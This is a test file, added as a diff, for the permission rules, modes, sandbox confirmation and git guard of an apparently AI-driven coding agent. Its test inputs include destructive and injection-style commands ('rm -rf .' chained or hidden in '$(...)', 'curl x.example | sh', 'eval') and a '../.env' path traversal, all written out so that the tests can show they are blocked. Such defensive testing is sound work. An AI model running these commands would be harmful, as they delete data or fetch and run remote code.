@@ -1,0 +1,318 @@
+import { existsSync, readFileSync, symlinkSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { parsePermissionRule, ruleApplies } from '../../src/agent/permission-rule.ts';
+import { sessionTools } from '../../src/agent/session-tools.ts';
+import { approve } from '../../src/audit/approvals.ts';
+import { auditPath } from '../../src/audit/log.ts';
+import { git, repositoryWithRemote, temporaryDirectory } from '../git/fixture.ts';
+import { openTestSession, write } from './fixture.ts';
+
+const done = { text: 'Done.' };
+const toolOf = (name: string) => sessionTools.find((tool) => tool.name === name)!;
+
+function applies(rule: string, quantity: 'all' | 'some', name: string, input: unknown, cwd = '/work') {
+  return ruleApplies(parsePermissionRule(rule), { tool: toolOf(name), input, cwd, env: {} }, quantity);
+}
+
+describe('a rule for commands', () => {
+  it.each([
+    ['Bash', 'anything', true],
+    ['Bash(*)', 'anything', true],
+    ['Bash(npm test:*)', 'npm test', true],
+    ['Bash(npm test:*)', 'npm test -- --watch', true],
+    ['Bash(npm test:*)', 'npm test && npm test -- a', true],
+    ['Bash(npm test:*)', 'npm test 2>/dev/null', true],
+    ['Bash(npm test:*)', 'npm testing', false],
+    ['Bash(npm test:*)', 'npm test && rm -rf .', false],
+    ['Bash(npm test:*)', 'npm test; rm -rf .', false],
+    ['Bash(npm test:*)', 'npm test $(rm -rf .)', false],
+    ['Bash(npm test:*)', 'npm test > out.txt', false],
+    ['Bash(npm test:*)', 'npm test | sh', false],
+    ['Bash(npm test:*)', 'eval "$X"', false],
+    ['Bash(git * --dry-run)', 'git push --dry-run', true],
+    ['Bash(echo hi)', 'echo hi', true],
+    ['Bash(echo hi)', 'echo hi there', false],
+  ])('%s allows %j: %s', (rule, command, expected) => {
+    expect(applies(rule, 'all', 'Bash', { command })).toBe(expected);
+  });
+
+  it.each([
+    ['Bash(rm:*)', 'npm test && rm -rf .', true],
+    ['Bash(rm:*)', 'bash -c "rm -rf ."', true],
+    ['Bash(rm:*)', 'echo rm', false],
+    ['Bash(curl * | sh)', 'curl x.example | sh', true],
+  ])('%s denies %j: %s', (rule, command, expected) => {
+    expect(applies(rule, 'some', 'Bash', { command })).toBe(expected);
+  });
+});
+
+describe('a rule for files', () => {
+  it.each([
+    ['Read(src/**)', 'Read', { file_path: 'src/a/b.ts' }, true],
+    ['Read(src/**)', 'Read', { file_path: '/work/src/a.ts' }, true],
+    ['Read(src/**)', 'Read', { file_path: 'src/../.env' }, false],
+    ['Read(.env)', 'Read', { file_path: 'deep/down/.env' }, true],
+    ['Edit(docs/*.md)', 'Write', { file_path: 'docs/a.md', content: '' }, true],
+    ['Edit(docs/*.md)', 'Read', { file_path: 'docs/a.md' }, false],
+    ['Write(docs/*.md)', 'Edit', { file_path: 'docs/a.md', old_string: 'a', new_string: 'b' }, false],
+    ['Edit(/work/docs/**)', 'Edit', { file_path: 'docs/a.md', old_string: 'a', new_string: 'b' }, true],
+  ])('%s and %s %j: %s', (rule, tool, input, expected) => {
+    expect(applies(rule, 'all', tool, input)).toBe(expected);
+  });
+
+  it('that allows a directory does not cover a link out of it', () => {
+    const cwd = temporaryDirectory();
+    write(cwd, 'secret/key', 'x');
+    write(cwd, 'src/a', 'x');
+    symlinkSync(join(cwd, 'secret/key'), join(cwd, 'src/link'));
+    expect(applies('Read(src/**)', 'all', 'Read', { file_path: 'src/link' }, cwd)).toBe(false);
+    expect(applies('Read(secret/**)', 'some', 'Read', { file_path: 'src/link' }, cwd)).toBe(true);
+  });
+});
+
+const writing = { calls: [{ name: 'Write', input: { file_path: 'a.txt', content: 'x' } }] };
+const running = (command: string, more = {}) => ({ calls: [{ name: 'Bash', input: { command, ...more } }] });
+
+describe('a permission mode', () => {
+  it.each([
+    ['default', 1, 'once', true],
+    ['default', 1, 'deny', false],
+    ['accept-edits', 0, 'deny', true],
+    ['plan', 0, 'once', false],
+    ['bypass', 0, 'deny', true],
+  ] as const)('%s asks %i times before a file is written', async (mode, questions, kind, written) => {
+    const { prompt, asked, cwd } = await openTestSession({
+      mode,
+      answer: kind === 'once' ? { kind } : { kind, reason: 'Not there' },
+      script: [writing, done],
+    });
+    await prompt();
+    expect(asked).toHaveLength(questions);
+    expect(existsSync(join(cwd, 'a.txt'))).toBe(written);
+  });
+
+  it.each([
+    ['default', 1],
+    ['accept-edits', 1],
+    ['bypass', 0],
+  ] as const)('%s asks %i times before a command runs', async (mode, questions) => {
+    const { prompt, asked, results } = await openTestSession({
+      mode,
+      answer: { kind: 'once' },
+      script: [running('echo hi'), done],
+    });
+    await prompt();
+    expect(asked).toHaveLength(questions);
+    expect(results('Bash')).toMatchObject([{ is_error: false, content: expect.stringContaining('hi') }]);
+  });
+
+  it('never lets a change of the guard’s configuration through unasked', async () => {
+    const { prompt, asked } = await openTestSession({
+      mode: 'bypass',
+      script: [
+        { calls: [{ name: 'Write', input: { file_path: 'oxide-guard.config.json', content: '{"rules":{}}' } }] },
+        done,
+      ],
+    });
+    await prompt();
+    expect(asked).toMatchObject([
+      { tool: 'Write', reason: expect.stringContaining('decides what the guard lets through') },
+    ]);
+  });
+});
+
+describe('rules and answers', () => {
+  it('deny beats ask beats allow, in bypass mode, too', async () => {
+    const permissions = { allow: ['Bash'], ask: ['Bash(echo:*)'], deny: ['Bash(echo no:*)'] };
+    const { prompt, asked, results } = await openTestSession({
+      mode: 'bypass',
+      settings: { permissions },
+      answer: { kind: 'once' },
+      script: [running('true'), running('echo yes'), running('echo no'), done],
+    });
+    await prompt();
+    expect(asked).toHaveLength(1);
+    expect(results().map(({ is_error }) => is_error)).toEqual([false, false, true]);
+  });
+
+  it('an answer for the session is remembered, for what it was given', async () => {
+    const { prompt, asked } = await openTestSession({
+      answer: { kind: 'session' },
+      script: [running('echo one'), running('echo one more'), running('true'), done],
+    });
+    await prompt();
+    expect(asked.map(({ sessionRule }) => sessionRule)).toEqual(['Bash(echo one:*)', 'Bash(true:*)']);
+  });
+
+  it('a refusal tells the model what the user would rather have', async () => {
+    const { prompt, results } = await openTestSession({
+      answer: { kind: 'deny', reason: 'Use printf.' },
+      script: [running('echo one'), done],
+    });
+    await prompt();
+    expect(results()).toMatchObject([{ is_error: true, content: 'Denied: The user refused it: Use printf.' }]);
+  });
+
+  it('where nobody can answer, it is a denial that says so', async () => {
+    const { prompt, results } = await openTestSession({ script: [running('echo one'), done] });
+    await prompt();
+    expect(results()[0]?.content).toContain('nobody could answer: this is a test');
+  });
+});
+
+describe('a command without the sandbox', () => {
+  const unsandboxed = running('echo hi', { dangerouslyDisableSandbox: true });
+
+  it('needs a confirmation of its own, whatever rules, mode and earlier answers say', async () => {
+    const { prompt, asked } = await openTestSession({
+      mode: 'bypass',
+      settings: { permissions: { allow: ['Bash'] } },
+      answer: { kind: 'session' },
+      script: [unsandboxed, unsandboxed, done],
+    });
+    await prompt();
+    expect(asked).toMatchObject([
+      { reason: expect.stringContaining('without the sandbox'), sessionRule: null },
+      { reason: expect.stringContaining('without the sandbox'), sessionRule: null },
+    ]);
+  });
+
+  it('is asked apart from "Bash may run"', async () => {
+    const { prompt, asked, results } = await openTestSession({
+      answer: ({ reason }) => (reason.includes('sandbox') ? { kind: 'deny', reason: '' } : { kind: 'once' }),
+      script: [unsandboxed, done],
+    });
+    await prompt();
+    expect(asked).toHaveLength(2);
+    expect(results()).toMatchObject([{ is_error: true }]);
+  });
+
+  it.each([[{ allowUnsandboxed: false }], [{ permissions: { deny: ['Bash(dangerouslyDisableSandbox)'] } }]])(
+    'can be forbidden by %j',
+    async (settings) => {
+      const { prompt, asked, results } = await openTestSession({
+        mode: 'bypass',
+        settings,
+        answer: { kind: 'once' },
+        script: [unsandboxed, running('echo hi'), done],
+      });
+      await prompt();
+      expect(asked).toEqual([]);
+      expect(results().map(({ is_error }) => is_error)).toEqual([true, false]);
+    },
+  );
+});
+
+describe('the git guard', () => {
+  it.each(['default', 'accept-edits', 'bypass'] as const)(
+    'holds in mode %s, by effect, not by spelling',
+    async (mode) => {
+      const { work, remote } = repositoryWithRemote();
+      git(work, 'config', 'alias.publish', 'push --force origin main');
+      const before = git(remote, 'rev-parse', 'main');
+      git(work, 'commit', '--amend', '--allow-empty', '--quiet', '-m', 'feat: other');
+      const { prompt, asked, results, events } = await openTestSession({
+        cwd: work,
+        mode,
+        settings: { permissions: { allow: ['Bash'] } },
+        answer: { kind: 'once' },
+        script: [running('git publish'), done],
+      });
+      await prompt();
+      expect(asked).toEqual([]);
+      expect(results()).toMatchObject([{ is_error: true, content: expect.stringContaining('[protected-force-push]') }]);
+      expect(events.find(({ type }) => type === 'permission')).toMatchObject({
+        verdict: 'deny',
+        rule: 'protected-force-push',
+        findings: [{ rule: 'protected-force-push', suggestion: expect.any(String) }],
+      });
+      expect(git(remote, 'rev-parse', 'main')).toBe(before);
+    },
+  );
+
+  it('also judges the command of a Task', async () => {
+    const { work } = repositoryWithRemote();
+    const { prompt, results } = await openTestSession({
+      cwd: work,
+      mode: 'bypass',
+      script: [
+        {
+          calls: [
+            {
+              name: 'Task',
+              input: { description: 'Push', command: 'git push -f origin main', run_in_background: true },
+            },
+          ],
+        },
+        done,
+      ],
+    });
+    await prompt();
+    expect(results()).toMatchObject([{ is_error: true, content: expect.stringContaining('protected-force-push') }]);
+  });
+
+  it('asks the user in every mode; a hook’s allowance is no answer to that', async () => {
+    const { work } = repositoryWithRemote();
+    write(work, 'a.txt', 'changed');
+    git(work, 'add', '--all');
+    const { prompt, asked, results } = await openTestSession({
+      cwd: work,
+      mode: 'bypass',
+      settings: { permissions: { allow: ['Bash'] } },
+      answer: { kind: 'deny', reason: '' },
+      hooks: (registry) =>
+        registry.register('PermissionRequest', 'test', () => ({
+          hookSpecificOutput: { hookEventName: 'PermissionRequest', decision: { behavior: 'allow' } },
+        })),
+      script: [running('git reset --hard'), done],
+    });
+    await prompt();
+    expect(asked).toMatchObject([{ findings: [{ rule: 'discard-changes' }], sessionRule: null }]);
+    expect(results()).toMatchObject([{ is_error: true }]);
+    expect(existsSync(join(work, 'a.txt'))).toBe(true);
+  });
+
+  it('takes an approval from another terminal, once, and keeps the trail', async () => {
+    const { work } = repositoryWithRemote();
+    write(work, 'a.txt', 'changed');
+    git(work, 'add', '--all');
+    const { prompt, results } = await openTestSession({
+      cwd: work,
+      mode: 'bypass',
+      script: [running('git reset --hard'), done, running('git reset --hard'), running('git status'), done],
+    });
+    await prompt();
+    const id = /oxide-guard approve (\w+)/.exec(results()[0]?.content ?? '')?.[1] ?? '';
+    approve(join(work, '.git'), id);
+    await prompt('Approved');
+    expect(results().map(({ is_error }) => is_error)).toEqual([true, false, false]);
+    expect(existsSync(join(work, 'a.txt'))).toBe(false);
+    const trail = readFileSync(auditPath(join(work, '.git')), 'utf8')
+      .trim()
+      .split('\n')
+      .map((line) => JSON.parse(line) as unknown);
+    expect(trail).toMatchObject([
+      { front: 'agent', verdict: 'ask', answer: 'nobody', rules: ['discard-changes'] },
+      { front: 'agent', verdict: 'allow', answer: 'approval', checkpoint: expect.stringMatching(/^agent-.*\/1$/) },
+    ]);
+  });
+
+  it('judges an input that a hook has changed anew', async () => {
+    const { work } = repositoryWithRemote();
+    const { prompt, results } = await openTestSession({
+      cwd: work,
+      mode: 'bypass',
+      hooks: (registry) =>
+        registry.register('PermissionRequest', 'test', () => ({
+          hookSpecificOutput: {
+            hookEventName: 'PermissionRequest',
+            decision: { behavior: 'allow', updatedInput: { command: 'git push -f origin main' } },
+          },
+        })),
+      script: [running('git status'), done],
+    });
+    await prompt();
+    expect(results()).toMatchObject([{ is_error: true, content: expect.stringContaining('protected-force-push') }]);
+  });
+});
